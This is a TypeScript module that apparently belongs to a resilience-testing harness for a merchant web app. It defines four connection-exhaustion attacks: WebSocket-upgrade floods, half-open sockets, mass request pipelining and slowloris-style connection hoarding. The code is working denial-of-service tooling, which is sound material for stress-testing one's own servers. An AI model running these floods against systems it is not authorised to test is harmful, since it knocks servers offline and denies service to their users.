import { setTimeout as sleep } from 'node:timers/promises'
import { type Attack, crowd } from './attack'
import { connect, head, holdOn } from './wire'

const NO_PAGES = ['/_next/webpack-hmr', '/nothing', '/%ff', '/api/none', '/products/x', '/login']
const UPGRADE = {
  Connection: 'Upgrade',
  Upgrade: 'websocket',
  'Sec-WebSocket-Key': 'c2llZ2Utc2llZ2Utc2llZw==',
  'Sec-WebSocket-Version': '13',
}

/** Asks for another protocol and leaves at once: a server that keeps such a socket keeps it forever. */
export const upgrade: Attack = {
  name: 'upgrade',
  sends: '4,000 (quick 800) `Upgrade` requests to paths that are no page, every tenth a `CONNECT`, each closed at once',
  addresses: [1, 40],
  run: (field) =>
    crowd(field, { atOnce: 20, most: field.isQuick ? 800 : 4_000, pauseMs: 20 }, async (n) => {
      const { socket, closed } = await connect(field, n, 1)
      const path = NO_PAGES[n % NO_PAGES.length] ?? '/'
      socket.end(`${n % 10 === 9 ? head(field, n, 'CONNECT', 'x.example:443') : head(field, n, 'GET', path, UPGRADE)}\r\n`)
      await Promise.race([closed, sleep(30)])
      socket.destroy()
      await closed
    }),
}

/** Signals that it has sent everything, after a whole request or half of one, and keeps its own side open. */
export const halfOpen: Attack = {
  name: 'half-open',
  sends: '200 connections that end after a request, half a head or half a body, and stay',
  addresses: [1, 40],
  run: (field) => {
    const { url, merchantKey } = field.target
    const key = { Authorization: `Bearer ${merchantKey}` }
    const beginnings = [
      (n: number) => `${head(field, n, 'GET', '/login')}\r\n`,
      (n: number) => head(field, n, 'GET', '/login'),
      (n: number) => `${head(field, n, 'POST', '/login', { Origin: url, 'Content-Length': '400' })}\r\nhalf`,
      (n: number) => `${head(field, n, 'POST', '/api/orders', { ...key, 'Content-Length': '400' })}\r\n{"reference"`,
      (n: number) => `${head(field, n, 'POST', '/api/paynet/return/AAAAAAAAAAAAAAAAAAAAAA', { 'Content-Length': '400' })}\r\nsession_id=`,
    ]
    return crowd(field, { atOnce: 200, most: 3_000, pauseMs: 200 }, async (n) => {
      const connection = await connect(field, n, 1)
      connection.socket.end(beginnings[n % beginnings.length]?.(n) ?? '')
      await holdOn(field, connection, 5_000)
    })
  },
}

/** Sends many requests before reading a single answer. */
export const pipelining: Attack = {
  name: 'pipelining',
  sends: 'four connections at once, each with 1,000 or 3,000 `GET /login` in one piece',
  addresses: [1, 40],
  run: (field) =>
    crowd(field, { atOnce: 4, most: 200, pauseMs: 500 }, async (n) => {
      const requests = n % 2 === 0 ? 1_000 : 3_000
      const connection = await connect(field, n, requests)
      connection.socket.write(`${head(field, n, 'GET', '/login')}\r\n`.repeat(requests))
      await holdOn(field, connection)
    }),
}

/** Opens connections and keeps them, so that none is left for others. */
export const hoard: Attack = {
  name: 'hoard',
  sends: '3,000 connections, without a proxy before the app, that say nothing, half a head, or one request and no more',
  addresses: [1, 40],
  isDirect: true,
  run: (field) =>
    crowd(field, { atOnce: 3_000, most: 9_000, pauseMs: 1_000 }, async (n) => {
      const connection = await connect(field, n, n % 3 === 0 ? 0 : 1)
      if (n % 3 === 1) connection.socket.write(head(field, n, 'GET', '/login'))
      if (n % 3 === 2) connection.socket.write(`${head(field, n, 'GET', '/api/health/live')}\r\n`)
      await holdOn(field, connection)
    }),
}
